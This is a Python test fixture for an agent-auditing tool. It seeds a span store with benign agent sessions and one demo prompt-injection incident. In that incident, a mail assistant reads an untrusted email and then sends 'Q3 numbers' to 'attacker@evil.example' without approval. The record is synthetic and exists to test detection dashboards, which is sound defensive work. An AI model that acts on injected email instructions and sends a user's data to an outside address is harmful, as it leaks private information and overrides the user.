@@ -1,0 +1,272 @@
+"""Seed a store with the demo injection incident and benign traffic (tests, e2e, docs).
+
+The spans go through the real write path (normalise -> Arrow -> insert) via
+:class:`~agentaudit.collector.writer.Writer`. Run as a script to seed a store directory:
+``python tests/dashboards/seed_store.py chdb:///tmp/store``.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import sys
+import time
+from typing import Any
+
+from agentaudit.collector.migrations import apply_migrations
+from agentaudit.collector.spans import SpanRecord
+from agentaudit.collector.store import Store
+from agentaudit.collector.writer import Writer
+from agentaudit.schema import attributes as A
+
+DEMO_SESSION = "sess-demo-injection"
+DEMO_AGENT = "mail-assistant"
+DEMO_USER = "alice@example.com"
+DEMO_TRACE = "0af7651916cd43dd8448eb211c80319c"
+DEMO_EMAIL = "email:msg-42"
+DEMO_CREDENTIAL = "cred-mail-7f3a"
+SECOND = 1_000_000_000
+
+
+def _hash(text: str) -> str:
+    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()
+
+
+def _span_id(text: str) -> str:
+    return hashlib.sha256(text.encode()).hexdigest()[:16]
+
+
+def _trace_id(text: str) -> str:
+    return hashlib.sha256(text.encode()).hexdigest()[:32]
+
+
+def _context(agent: str, user: str, session: str) -> dict[str, Any]:
+    return {
+        A.GEN_AI_AGENT_ID: agent,
+        A.GEN_AI_AGENT_NAME: agent,
+        A.ENDUSER_ID: user,
+        A.SESSION_ID: session,
+        A.FRAMEWORK: "function",
+    }
+
+
+def chat_span(
+    *,
+    trace: str,
+    name: str,
+    start_ns: int,
+    agent: str,
+    user: str,
+    session: str,
+    prompt_hash: str,
+    sources: list[tuple[str, str, str]],
+    model: str = "gpt-4o",
+) -> SpanRecord:
+    attrs = _context(agent, user, session)
+    attrs.update(
+        {
+            A.GEN_AI_OPERATION_NAME: A.OPERATION_CHAT,
+            A.GEN_AI_REQUEST_MODEL: model,
+            A.PROMPT_HASH: prompt_hash,
+            A.SOURCE_REFS: [s[0] for s in sources],
+            A.SOURCE_KINDS: [s[1] for s in sources],
+            A.SOURCE_TRUST: [s[2] for s in sources],
+            A.SOURCE_HASHES: [_hash(s[0]) for s in sources],
+        }
+    )
+    return SpanRecord(
+        trace_id=trace,
+        span_id=_span_id(name),
+        name=f"chat {model}",
+        start_ns=start_ns,
+        end_ns=start_ns + SECOND,
+        kind="Client",
+        attributes=attrs,
+        resource_attributes={A.SERVICE_NAME: agent},
+    )
+
+
+def tool_span(
+    *,
+    trace: str,
+    name: str,
+    start_ns: int,
+    agent: str,
+    user: str,
+    session: str,
+    tool: str,
+    arguments: dict[str, Any],
+    prompt_hash: str,
+    sources: list[tuple[str, str, str]],
+    resources: list[str],
+    credential: str,
+    scopes: list[str],
+    expires_at: int,
+    approval: str = A.APPROVAL_NONE,
+    approver: str = "",
+    error: str = "",
+) -> SpanRecord:
+    attrs = _context(agent, user, session)
+    attrs.update(
+        {
+            A.GEN_AI_OPERATION_NAME: A.OPERATION_EXECUTE_TOOL,
+            A.GEN_AI_TOOL_NAME: tool,
+            A.GEN_AI_TOOL_CALL_ID: f"call_{name}",
+            A.GEN_AI_TOOL_TYPE: "function",
+            A.GEN_AI_TOOL_CALL_ARGUMENTS: json.dumps(arguments),
+            A.ARGUMENTS_HASH: _hash(json.dumps(arguments, sort_keys=True)),
+            A.RESULT_HASH: _hash(f"result of {name}"),
+            A.PROMPT_HASH: prompt_hash,
+            A.SOURCE_REFS: [s[0] for s in sources],
+            A.SOURCE_KINDS: [s[1] for s in sources],
+            A.SOURCE_TRUST: [s[2] for s in sources],
+            A.SOURCE_HASHES: [_hash(s[0]) for s in sources],
+            A.RESOURCE_IDS: resources,
+            A.APPROVAL_STATUS: approval,
+            A.CREDENTIAL_ID: credential,
+            A.CREDENTIAL_SCOPES: scopes,
+            A.CREDENTIAL_EXPIRES_AT: expires_at,
+        }
+    )
+    if approver:
+        attrs[A.APPROVAL_APPROVER] = approver
+    if error:
+        attrs[A.ERROR_TYPE] = error
+    return SpanRecord(
+        trace_id=trace,
+        span_id=_span_id(name),
+        name=f"{A.TOOL_SPAN_PREFIX}{tool}",
+        start_ns=start_ns,
+        end_ns=start_ns + SECOND // 4,
+        status_code="Error" if error else "Unset",
+        attributes=attrs,
+        resource_attributes={A.SERVICE_NAME: agent},
+    )
+
+
+def demo_incident(now_ns: int) -> list[SpanRecord]:
+    """read_inbox -> chat (prompted by email:msg-42) -> send_email, unapproved."""
+    t0 = now_ns - 3600 * SECOND
+    common = {"trace": DEMO_TRACE, "agent": DEMO_AGENT, "user": DEMO_USER, "session": DEMO_SESSION}
+    expires = now_ns // SECOND + 3600
+    scopes = ["email.read", "email.send", "contacts.read"]
+    user_turn = ("user:alice#turn-1", "user", A.TRUST_USER)
+    p1, p2 = _hash("prompt-1"), _hash("prompt-2")
+    injected = [
+        user_turn,
+        ("tool:read_inbox#call_1", "tool_result", A.TRUST_UNTRUSTED),
+        (DEMO_EMAIL, "email", A.TRUST_UNTRUSTED),
+    ]
+    return [
+        chat_span(name="demo-chat-1", start_ns=t0, prompt_hash=p1, sources=[user_turn], **common),
+        tool_span(
+            name="demo-read-inbox",
+            start_ns=t0 + 2 * SECOND,
+            tool="read_inbox",
+            arguments={"folder": "INBOX", "limit": 10},
+            prompt_hash=p1,
+            sources=[user_turn],
+            resources=["email:inbox/alice"],
+            credential=DEMO_CREDENTIAL,
+            scopes=scopes,
+            expires_at=expires,
+            **common,
+        ),
+        chat_span(
+            name="demo-chat-2", start_ns=t0 + 4 * SECOND, prompt_hash=p2, sources=injected, **common
+        ),
+        tool_span(
+            name="demo-send-email",
+            start_ns=t0 + 6 * SECOND,
+            tool="send_email",
+            arguments={
+                "to": "attacker@evil.example",
+                "subject": "Q3 numbers",
+                "body": "[REDACTED:email]",
+            },
+            prompt_hash=p2,
+            sources=injected,
+            resources=["email:outbound/attacker@evil.example"],
+            credential=DEMO_CREDENTIAL,
+            scopes=scopes,
+            expires_at=expires,
+            **common,
+        ),
+    ]
+
+
+def benign_sessions(now_ns: int, count: int = 6) -> list[SpanRecord]:
+    """Approved calendar and research work, spread over the last day."""
+    spans: list[SpanRecord] = []
+    for i in range(count):
+        start = now_ns - (2 + 3 * i) * 3600 * SECOND
+        if i % 2 == 0:
+            agent, user, tool, resource = (
+                "calendar-bot",
+                "bob@example.com",
+                "create_event",
+                f"calendar:evt-{i}",
+            )
+            scopes, approval, approver = (
+                ["calendar.read", "calendar.write"],
+                A.APPROVAL_HUMAN,
+                "bob@example.com",
+            )
+            sources = [(f"user:bob#turn-{i}", "user", A.TRUST_USER)]
+        else:
+            agent, user, tool, resource = (
+                "research-agent",
+                "carol@example.com",
+                "web_search",
+                f"url:https://example.org/{i}",
+            )
+            scopes, approval, approver = ["web.search"], A.APPROVAL_POLICY, "policy:allow-search"
+            sources = [
+                (f"user:carol#turn-{i}", "user", A.TRUST_USER),
+                (f"url:https://news.example/{i}", "web", A.TRUST_UNTRUSTED),
+            ]
+        session, trace, prompt = f"sess-benign-{i}", _trace_id(f"benign-{i}"), _hash(f"benign-{i}")
+        common = {"trace": trace, "agent": agent, "user": user, "session": session}
+        spans.append(
+            chat_span(
+                name=f"benign-chat-{i}",
+                start_ns=start,
+                prompt_hash=prompt,
+                sources=sources,
+                **common,
+            )
+        )
+        for j in range(3):
+            spans.append(
+                tool_span(
+                    name=f"benign-{i}-{j}",
+                    start_ns=start + (1 + j) * SECOND,
+                    tool=tool,
+                    arguments={"n": j, "title": f"task {i}"},
+                    prompt_hash=prompt,
+                    sources=sources,
+                    resources=[resource],
+                    credential=f"cred-{agent}-{i}",
+                    scopes=scopes,
+                    expires_at=now_ns // SECOND + 7200,
+                    approval=approval,
+                    approver=approver,
+                    error="TimeoutError" if (i, j) == (1, 2) else "",
+                    **common,
+                )
+            )
+    return spans
+
+
+def seed(store: Store, now_ns: int | None = None) -> None:
+    """Apply migrations and write the demo incident plus benign sessions."""
+    now_ns = time.time_ns() if now_ns is None else now_ns
+    apply_migrations(store)
+    writer = Writer(store)
+    writer.enqueue(demo_incident(now_ns) + benign_sessions(now_ns))
+    writer.flush()
+
+
+if __name__ == "__main__":
+    with Store.open(sys.argv[1]) as target:
+        seed(target)
